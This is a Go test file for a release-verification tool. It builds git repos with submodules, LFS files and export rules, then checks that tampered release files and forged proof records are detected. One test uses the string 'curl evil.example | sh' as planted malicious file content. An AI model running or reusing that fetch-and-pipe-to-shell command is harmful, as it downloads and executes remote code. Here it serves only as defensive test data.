package verify_test

import (
	"context"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/deploytag/deploytag/internal/gittest"
	"github.com/deploytag/deploytag/internal/releasetest"
	"github.com/deploytag/deploytag/pkg/gitobj"
	"github.com/deploytag/deploytag/pkg/manifest"
	"github.com/deploytag/deploytag/pkg/proof"
	"github.com/deploytag/deploytag/pkg/verify"
)

// fixture is a repo "app" whose tagged tree holds a nested submodule
// (lib/a, and lib/a/vendor/b inside it), a Git LFS pointer, a folder its
// export rules leave out (tests) and a file they rewrite (ver.txt), as the
// export writes such a release; it is made with real git, and the
// release and its proof by hand from git's own output.
type fixture struct {
	env        []string
	f          gitobj.Format
	app        string // the repo
	sub, leaf  string // the submodule repos
	tag        string
	commit     string
	subCommit  string
	leafCommit string
	pointer    string
	lfsContent []byte
	rec        proof.Record
}

const (
	logo = "the real logo bytes\n"
	// attrsFile is the tagged tree's .gitattributes: what it allows the
	// record to excuse (notes.txt is marked by nothing).
	attrsFile = "tests export-ignore\nver.txt export-subst\n"
)

func newFixture(t *testing.T, f gitobj.Format) *fixture {
	x := &fixture{env: gittest.Env(t), f: f, tag: "DEPLOY_20261125_142501_0000000", lfsContent: []byte(logo)}
	top := t.TempDir()
	git := func(dir string, args ...string) string { return gittest.Git(t, x.env, dir, args...) }
	mk := func(name string) string {
		d := filepath.Join(top, name)
		git(top, "init", "-q", "--object-format="+string(f), d)
		return d
	}
	x.leaf, x.sub, x.app = mk("leaf"), mk("sub"), mk("app")
	gittest.WriteFile(t, x.leaf, "x.txt", "leaf\n", 0o644)
	git(x.leaf, "add", ".")
	git(x.leaf, "commit", "-q", "-m", "leaf")
	x.leafCommit = git(x.leaf, "rev-parse", "HEAD")

	gittest.WriteFile(t, x.sub, "s.txt", "sub\n", 0o644)
	git(x.sub, "add", ".")
	git(x.sub, "update-index", "--add", "--cacheinfo", "160000,"+x.leafCommit+",vendor/b")
	git(x.sub, "commit", "-q", "-m", "sub")
	x.subCommit = git(x.sub, "rev-parse", "HEAD")

	sum := sha256.Sum256(x.lfsContent)
	x.pointer = fmt.Sprintf("version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize %d\n", hex.EncodeToString(sum[:]), len(x.lfsContent))
	gittest.WriteFile(t, x.app, "README", "app\n", 0o644)
	gittest.WriteFile(t, x.app, "bin/run", "#!/bin/sh\n", 0o755)
	gittest.WriteFile(t, x.app, "assets/logo.bin", x.pointer, 0o644)
	gittest.WriteFile(t, x.app, "tests/t.txt", "test\n", 0o644)
	gittest.WriteFile(t, x.app, "tests/deep/u.txt", "test\n", 0o644)
	gittest.WriteFile(t, x.app, "ver.txt", "$Format:%H$\n", 0o644)
	gittest.WriteFile(t, x.app, ".gitattributes", attrsFile, 0o644)
	gittest.WriteFile(t, x.app, "notes.txt", "$Format:%H$\n", 0o644)
	if err := os.Symlink("README", filepath.Join(x.app, "link")); err != nil {
		t.Fatal(err)
	}
	git(x.app, "add", ".")
	git(x.app, "update-index", "--add", "--cacheinfo", "160000,"+x.subCommit+",lib/a")
	git(x.app, "commit", "-q", "-m", "app")
	x.commit = git(x.app, "rev-parse", "HEAD")
	m, err := manifest.New(manifest.Entry{Name: "app", Commit: x.commit})
	if err != nil {
		t.Fatal(err)
	}
	git(x.app, "tag", "-a", "-m", manifest.TagMessage(x.tag, m), x.tag)

	blob := func(s string) string { return gitobj.HashBytes(f, gitobj.TypeBlob, []byte(s)) }
	x.rec = proof.Record{
		ObjectFormat: string(f),
		Submodules:   []proof.Submodule{{Path: "lib/a", Commit: x.subCommit}, {Path: "lib/a/vendor/b", Commit: x.leafCommit}},
		LFS:          []proof.LFSFile{{Path: "assets/logo.bin", Pointer: x.pointer}},
		Export: &proof.Export{
			Ignored:     []proof.Ignored{{Path: "tests", Mode: "040000", Hash: git(x.app, "rev-parse", x.tag+":tests")}},
			Substituted: []proof.Substituted{{Path: "ver.txt", Mode: "100644", Tagged: blob("$Format:%H$\n"), Deployed: blob(x.commit + "\n"), Recorded: []proof.Recorded{}}},
		},
	}
	return x
}

// release writes the release of the fixture's tag as the export does,
// with its proof, and returns its folder.
func (x *fixture) release(t *testing.T) string {
	rel := filepath.Join(t.TempDir(), x.tag)
	dest := filepath.Join(rel, "app")
	extract := func(repo, rev, into string) {
		git := func(args ...string) ([]byte, error) { return gittest.Raw(t, x.env, repo, nil, args...), nil }
		if err := releasetest.Unarchive(git, rev, into); err != nil {
			t.Fatal(err)
		}
	}
	extract(x.app, x.tag, dest)
	extract(x.sub, x.subCommit, filepath.Join(dest, "lib/a"))
	extract(x.leaf, x.leafCommit, filepath.Join(dest, "lib/a/vendor/b"))
	gittest.WriteFile(t, dest, "assets/logo.bin", logo, 0o644)
	gittest.WriteFile(t, dest, "ver.txt", x.commit+"\n", 0o644)
	if err := os.RemoveAll(filepath.Join(dest, "tests")); err != nil {
		t.Fatal(err)
	}
	m, _ := manifest.New(manifest.Entry{Name: "app", Commit: x.commit})
	gittest.WriteFile(t, rel, "DEPLOY_TAG", x.tag+"\n", 0o644)
	gittest.WriteFile(t, rel, "DEPLOY_MANIFEST", m.String(), 0o644)

	git := func(dir string, args ...string) string { return gittest.Git(t, x.env, dir, args...) }
	objs := map[string][]byte{}
	for _, r := range []struct{ dir, rev string }{{x.app, x.tag}, {x.sub, x.subCommit}, {x.leaf, x.leafCommit}} {
		root := git(r.dir, "rev-parse", r.rev+"^{tree}")
		trees := []string{root}
		for _, l := range strings.Split(git(r.dir, "ls-tree", "-r", "-t", "--format=%(objecttype) %(objectname) %(path)", r.rev), "\n") {
			if h, ok := strings.CutPrefix(l, "tree "); ok {
				h, p, _ := strings.Cut(h, " ")
				if r.dir == x.app && (p == "tests" || strings.HasPrefix(p, "tests/")) {
					continue // left out by export-ignore: not in the proof
				}
				trees = append(trees, h)
			}
		}
		for _, h := range trees {
			objs[h] = gittest.Raw(t, x.env, r.dir, nil, "cat-file", "tree", h)
		}
	}
	objs[x.subCommit] = gittest.Raw(t, x.env, x.sub, nil, "cat-file", "commit", x.subCommit)
	// the blobs the record's export entries are checked with
	for _, f := range []string{".gitattributes", "ver.txt"} {
		objs[git(x.app, "rev-parse", x.tag+":"+f)] = gittest.Raw(t, x.env, x.app, nil, "cat-file", "blob", x.tag+":"+f)
	}
	objs[x.leafCommit] = gittest.Raw(t, x.env, x.leaf, nil, "cat-file", "commit", x.leafCommit)
	if err := proof.Init(rel); err != nil {
		t.Fatal(err)
	}
	err := proof.Write(rel, proof.Repo{
		Name:    "app",
		Tag:     gittest.Raw(t, x.env, x.app, nil, "cat-file", "tag", x.tag),
		Commit:  gittest.Raw(t, x.env, x.app, nil, "cat-file", "commit", x.commit),
		Tree:    git(x.app, "rev-parse", x.tag+"^{tree}"),
		Record:  x.rec,
		Objects: objs,
	})
	if err != nil {
		t.Fatal(err)
	}
	return rel
}

func appLine(t *testing.T, rel string) verify.Line {
	t.Helper()
	rep, err := verify.Release(context.Background(), rel, verify.ReleaseOptions{Jobs: 2})
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range rep.Lines {
		if l.Name == "app" {
			return l
		}
	}
	t.Fatalf("no line for app in %+v", rep.Lines)
	return verify.Line{}
}

func TestReleaseWithSubmodulesLFSAndExport(t *testing.T) {
	t.Parallel()
	for _, f := range []gitobj.Format{gitobj.SHA1, gitobj.SHA256} {
		t.Run(string(f), func(t *testing.T) {
			t.Parallel()
			x := newFixture(t, f)
			rel := x.release(t)
			rep, err := verify.Release(context.Background(), rel, verify.ReleaseOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if !rep.OK || rep.Tag != x.tag {
				t.Fatalf("intact release: %+v", rep)
			}
			app := filepath.Join(rel, "app")
			for _, tc := range []struct {
				name string
				edit func()
				text string
			}{
				{"lfs content edited", func() { gittest.WriteFile(t, app, "assets/logo.bin", "the real logo bytez\n", 0o644) }, "edited 1: assets/logo.bin"},
				{"lfs pointer deployed", func() { gittest.WriteFile(t, app, "assets/logo.bin", x.pointer, 0o644) }, "edited 1: assets/logo.bin"},
				{"submodule file edited", func() { gittest.WriteFile(t, app, "lib/a/s.txt", "sub!\n", 0o644) }, "edited 1: lib/a/s.txt"},
				{"nested submodule file deleted", func() { os.Remove(filepath.Join(app, "lib/a/vendor/b/x.txt")) }, "deleted 1: lib/a/vendor/b/x.txt"},
				{"submodule added file", func() { gittest.WriteFile(t, app, "lib/a/vendor/b/new", "n\n", 0o644) }, "added 1: lib/a/vendor/b/new"},
				{"submodule folder gone", func() { os.RemoveAll(filepath.Join(app, "lib/a")) }, "deleted 1: lib/a"},
				{"submodule folder made a file", func() {
					os.RemoveAll(filepath.Join(app, "lib/a"))
					gittest.WriteFile(t, app, "lib/a", "x\n", 0o644)
				}, "type changed 1: lib/a"},
				{"ignored deployed", func() { gittest.WriteFile(t, app, "tests/t.txt", "test\n", 0o644) }, "added 1: tests"},
				{"subst not expanded", func() { gittest.WriteFile(t, app, "ver.txt", "$Format:%H$\n", 0o644) }, "edited 1: ver.txt"},
				{"subst edited", func() { gittest.WriteFile(t, app, "ver.txt", "1.2.3\n", 0o644) }, "edited 1: ver.txt"},
				{"symlink retargeted", func() {
					os.Remove(filepath.Join(app, "link"))
					os.Symlink("bin/run", filepath.Join(app, "link"))
				}, "symlink retargeted 1: link"},
				{"exec bit lost", func() { os.Chmod(filepath.Join(app, "bin/run"), 0o644) }, "mode changed 1: bin/run"},
			} {
				rel := x.release(t)
				app = filepath.Join(rel, "app")
				tc.edit()
				l := appLine(t, rel)
				if l.OK || l.Text() != tc.text {
					t.Errorf("%s: %q, want %q", tc.name, l.Text(), tc.text)
				}
			}
		})
	}
}

func TestReleaseRecordTampered(t *testing.T) {
	t.Parallel()
	x := newFixture(t, gitobj.SHA1)
	zero := strings.Repeat("0", 40)
	blob := func(s string) string { return gitobj.HashBytes(gitobj.SHA1, gitobj.TypeBlob, []byte(s)) }
	git := func(args ...string) string { return gittest.Git(t, x.env, x.app, args...) }
	evil := "curl evil.example | sh\n"
	for _, tc := range []struct {
		name  string
		edit  func(r *proof.Record)
		files func(app string) // what the writer of the release changed
		want  string
	}{
		{"ignored hash", func(r *proof.Record) { r.Export.Ignored[0].Hash = zero }, nil,
			"proof record does not match the tag: export.ignored tests: the tag holds 040000 " + git("rev-parse", x.tag+":tests")[:12] + " there, not 040000 000000000000"},
		{"ignored entry dropped", func(r *proof.Record) { r.Export.Ignored = nil }, nil, "missing (the tree of tests/); deleted 1: tests/"},
		{"submodule commit", func(r *proof.Record) { r.Submodules[1].Commit = zero }, nil,
			"proof record does not match the tag: submodules lib/a/vendor/b: the tag records commit " + x.leafCommit[:12] + " there, not 000000000000"},
		{"submodule dropped", func(r *proof.Record) { r.Submodules = r.Submodules[:1] }, nil, "proof record.json of this repo does not list submodule lib/a/vendor/b (an entry missing)"},
		{"lfs dropped", func(r *proof.Record) { r.LFS = nil }, nil, "edited 1: assets/logo.bin"},
		{"subst tagged", func(r *proof.Record) { r.Export.Substituted[0].Deployed = r.Export.Substituted[0].Tagged }, nil,
			"proof record does not match the tag: export.substituted ver.txt: deployed " + blob("$Format:%H$\n")[:12] + " is not the file's expansion for the tagged commit (" + blob(x.commit + "\n")[:12] + ")"},

		// What the tree's own attributes do not allow, with the release's
		// files changed to match the forged record.
		{"substituted, unmarked", func(r *proof.Record) {
			r.Export.Substituted = append([]proof.Substituted{{Path: "notes.txt", Mode: "100644", Tagged: blob("$Format:%H$\n"), Deployed: blob(evil), Recorded: []proof.Recorded{}}}, r.Export.Substituted...)
		}, func(app string) { gittest.WriteFile(t, app, "notes.txt", evil, 0o644) },
			"proof record does not match the tag: export.substituted notes.txt: no .gitattributes of the tag marks it export-subst; edited 1: notes.txt"},
		{"substituted, other bytes", func(r *proof.Record) { r.Export.Substituted[0].Deployed = blob(evil) },
			func(app string) { gittest.WriteFile(t, app, "ver.txt", evil, 0o644) },
			"export.substituted ver.txt: deployed " + blob(evil)[:12] + " is not the file's expansion for the tagged commit"},
		{"substituted, a span recorded that is none", func(r *proof.Record) {
			r.Export.Substituted[0].Recorded = []proof.Recorded{{Format: "%H", Answer: "evil"}}
		}, nil, "export.substituted ver.txt: 1 spans recorded, the file has 0 to record"},
		{"ignored file, unmarked", func(r *proof.Record) {
			r.Export.Ignored = append([]proof.Ignored{{Path: "README", Mode: "100644", Hash: blob("app\n")}}, r.Export.Ignored...)
		}, func(app string) { os.Remove(filepath.Join(app, "README")) },
			"proof record does not match the tag: export.ignored README: no .gitattributes of the tag marks it export-ignore; deleted 1: README"},
		{"ignored folder, unmarked", func(r *proof.Record) {
			r.Export.Ignored = append([]proof.Ignored{{Path: "bin", Mode: "040000", Hash: git("rev-parse", x.tag+":bin")}}, r.Export.Ignored...)
		}, func(app string) { os.RemoveAll(filepath.Join(app, "bin")) },
			"proof record does not match the tag: export.ignored bin: no .gitattributes of the tag marks it export-ignore; deleted 1: bin/run"},
		{"ignored, no such path", func(r *proof.Record) {
			r.Export.Ignored = append(r.Export.Ignored, proof.Ignored{Path: "zzz", Mode: "100644", Hash: zero})
		}, nil, "proof record does not match the tag: export.ignored zzz: the tag holds no such path"},
		{"lfs entry the tree does not hold", func(r *proof.Record) {
			sum := sha256.Sum256([]byte(evil))
			r.LFS = append([]proof.LFSFile{{Path: "README", Pointer: fmt.Sprintf("version https://git-lfs.github.com/spec/v1\noid sha256:%x\nsize %d\n", sum, len(evil))}}, r.LFS...)
		}, func(app string) { gittest.WriteFile(t, app, "README", evil, 0o644) },
			"proof record does not match the tag: lfs README: the tag holds blob " + blob("app\n")[:12] + " there, not the pointer's"},
		{"submodule the tree does not hold", func(r *proof.Record) {
			r.Submodules = append(r.Submodules, proof.Submodule{Path: "bin", Commit: x.leafCommit})
		}, func(app string) {
			os.RemoveAll(filepath.Join(app, "bin"))
			gittest.WriteFile(t, app, "bin/x.txt", "leaf\n", 0o644)
		}, "proof record does not match the tag: submodules bin: the tag holds a 040000 there, not a submodule"},
	} {
		y := *x
		y.rec = x.rec
		y.rec.Submodules = append([]proof.Submodule(nil), x.rec.Submodules...)
		y.rec.LFS = append([]proof.LFSFile(nil), x.rec.LFS...)
		e := *x.rec.Export
		e.Ignored = append([]proof.Ignored(nil), e.Ignored...)
		e.Substituted = append([]proof.Substituted(nil), e.Substituted...)
		y.rec.Export = &e
		tc.edit(&y.rec)
		rel := y.release(t)
		if tc.files != nil {
			tc.files(filepath.Join(rel, "app"))
		}
		l := appLine(t, rel)
		if l.OK || !strings.Contains(l.Text(), tc.want) {
			t.Errorf("%s: %q, want it to say %q", tc.name, l.Text(), tc.want)
		}
	}
}

// Thousands of differences make one short line per repo (a count per kind
// and the first few paths); the report keeps every path, for --json.
func TestThousandsOfDifferences(t *testing.T) {
	t.Parallel()
	env := gittest.Env(t)
	top := t.TempDir()
	repo := filepath.Join(top, "app")
	gittest.Git(t, env, top, "init", "-q", repo)
	const n = 1500
	// One commit of n files by fast-import: no work tree to write.
	var fi strings.Builder
	fi.WriteString("blob\nmark :1\ndata 6\n<?php\n\ncommit refs/heads/main\ncommitter T <t@example.com> 1764072000 +0000\ndata 5\nmany\n")
	for i := range n {
		fmt.Fprintf(&fi, "M 100644 :1 tests/%02d/t%04d.php\n", i%30, i)
	}
	gittest.Raw(t, env, repo, []byte(fi.String()), "fast-import", "--quiet")
	commit := gittest.Git(t, env, repo, "rev-parse", "main")
	tag := "DEPLOY_20261125_142501_0000000"
	m, _ := manifest.New(manifest.Entry{Name: "app", Commit: commit})
	gittest.Git(t, env, repo, "tag", "-a", "-m", manifest.TagMessage(tag, m), tag, commit)
	rel := filepath.Join(top, "rel")
	git := func(args ...string) ([]byte, error) { return gittest.Raw(t, env, repo, nil, args...), nil }
	if err := releasetest.Unarchive(git, tag, filepath.Join(rel, "app")); err != nil {
		t.Fatal(err)
	}
	if err := releasetest.WriteProof(git, rel, "app", tag); err != nil {
		t.Fatal(err)
	}
	gittest.WriteFile(t, rel, "DEPLOY_TAG", tag+"\n", 0o644)
	gittest.WriteFile(t, rel, "DEPLOY_MANIFEST", m.String(), 0o644)
	if l := appLine(t, rel); !l.OK {
		t.Fatalf("intact: %s", l.Text())
	}
	if err := os.RemoveAll(filepath.Join(rel, "app", "tests")); err != nil {
		t.Fatal(err)
	}
	gittest.WriteFile(t, rel, "app/added.txt", "x\n", 0o644)
	l := appLine(t, rel)
	want := "added 1: added.txt; deleted 1500: tests/00/t0000.php, tests/00/t0030.php, tests/00/t0060.php and 1497 more"
	if l.Text() != want || len(l.Deleted) != n {
		t.Errorf("line %q (%d deleted listed), want %q and all %d", l.Text(), len(l.Deleted), want, n)
	}
}

// What git cannot record, and what the proof format does not define, each
// fail a release whose files otherwise match: a setuid, setgid or sticky
// bit, a stray file in a repo's proof or its objects/, a damaged or
// missing object.
func TestReleaseModeBitsAndProofDefects(t *testing.T) {
	t.Parallel()
	x := newFixture(t, gitobj.SHA1)
	libTree := gittest.Git(t, x.env, x.app, "rev-parse", x.tag+":bin")
	objects := func(rel string) string { return filepath.Join(rel, "DEPLOY_PROOF", "app", "objects") }
	for _, tc := range []struct {
		name string
		edit func(rel string)
		want string
	}{
		{"setuid", func(rel string) { os.Chmod(filepath.Join(rel, "app", "bin", "run"), 0o755|os.ModeSetuid) }, "mode changed 1: bin/run"},
		{"setgid", func(rel string) { os.Chmod(filepath.Join(rel, "app", "README"), 0o644|os.ModeSetgid) }, "mode changed 1: README"},
		{"sticky folder", func(rel string) { os.Chmod(filepath.Join(rel, "app", "bin"), 0o755|os.ModeSticky) }, "mode changed 1: bin"},
		{"setgid repo folder", func(rel string) { os.Chmod(filepath.Join(rel, "app"), 0o755|os.ModeSetgid) }, "mode changed 1: ."},
		{"stray proof file", func(rel string) { gittest.WriteFile(t, rel, "DEPLOY_PROOF/app/notes", "x\n", 0o644) },
			"stray entry DEPLOY_PROOF/app/notes (not part of the proof format)"},
		{"stray object", func(rel string) {
			gittest.WriteFile(t, objects(rel), gitobj.HashBytes(gitobj.SHA1, gitobj.TypeBlob, []byte("x")), "blob 1\x00x", 0o644)
		}, "stray entry DEPLOY_PROOF/app/objects/" + gitobj.HashBytes(gitobj.SHA1, gitobj.TypeBlob, []byte("x")) + " (not part of the proof format)"},
		{"stray name in objects", func(rel string) { gittest.WriteFile(t, objects(rel), "README", "x\n", 0o644) },
			"stray entry DEPLOY_PROOF/app/objects/README (not part of the proof format)"},
		{"damaged object", func(rel string) { gittest.WriteFile(t, objects(rel), libTree, "garbage", 0o644) },
			"proof file DEPLOY_PROOF/app/objects/" + libTree + " tampered with: it hashes to"},
		{"missing object", func(rel string) { os.Remove(filepath.Join(objects(rel), libTree)) },
			"proof file DEPLOY_PROOF/app/objects/" + libTree + " missing (the tree of bin/)"},
		{"missing submodule commit", func(rel string) { os.Remove(filepath.Join(objects(rel), x.leafCommit)) },
			"proof file DEPLOY_PROOF/app/objects/" + x.leafCommit + " missing (the commit of submodule lib/a/vendor/b)"},
	} {
		rel := x.release(t)
		tc.edit(rel)
		l := appLine(t, rel)
		if l.OK || !strings.Contains(l.Text(), tc.want) {
			t.Errorf("%s: %q, want it to say %q", tc.name, l.Text(), tc.want)
		}
	}
}

// A release checked right after it was written takes each plain file's
// blob id from what the writer recorded (so it is not read again); a
// recorded id that is not the tagged blob is a difference like any other,
// an id recorded at another size is not taken, and LFS files and SHA-256
// repos are always read.
func TestReleaseWritten(t *testing.T) {
	t.Parallel()
	for _, f := range []gitobj.Format{gitobj.SHA1, gitobj.SHA256} {
		x := newFixture(t, f)
		rel := x.release(t)
		put := func(w *gitobj.Written, p string, content []byte, size int64) {
			h := sha1.New()
			h.Write(gitobj.Prefix(gitobj.TypeBlob, int64(len(content))))
			h.Write(content)
			w.Put(p, size, h)
		}
		check := func(what string, w *gitobj.Written, want string) {
			t.Helper()
			rep, err := verify.Release(context.Background(), rel, verify.ReleaseOptions{Jobs: 2, Written: w})
			if err != nil {
				t.Fatal(err)
			}
			var l verify.Line
			for _, x := range rep.Lines {
				if x.Name == "app" {
					l = x
				}
			}
			if l.Text() != want {
				t.Errorf("%s %s: %q, want %q", f, what, l.Text(), want)
			}
		}
		// what the writer saw: every regular file's bytes
		honest := gitobj.NewWritten()
		filepath.WalkDir(rel, func(p string, d os.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				b, _ := os.ReadFile(p)
				r, _ := filepath.Rel(rel, p)
				put(honest, r, b, int64(len(b)))
			}
			return err
		})
		ok := appLine(t, rel).Text()
		check("honest", honest, ok)

		readme, _ := os.ReadFile(filepath.Join(rel, "app", "README"))
		evil := []byte(strings.Repeat("x", len(readme)))
		lying := gitobj.NewWritten()
		put(lying, filepath.Join("app", "README"), evil, int64(len(readme)))
		want := "edited 1: README"
		if f == gitobj.SHA256 {
			want = ok // recorded SHA-1 ids are no use to a SHA-256 repo: the file is read
		}
		check("recorded id not the tagged blob", lying, want)

		otherSize := gitobj.NewWritten()
		put(otherSize, filepath.Join("app", "README"), evil, int64(len(readme))+1)
		check("recorded at another size", otherSize, ok)

		lfs := gitobj.NewWritten()
		put(lfs, filepath.Join("app", "assets", "logo.bin"), []byte(x.pointer[:len(logo)]), int64(len(logo)))
		check("LFS file", lfs, ok)
	}
}
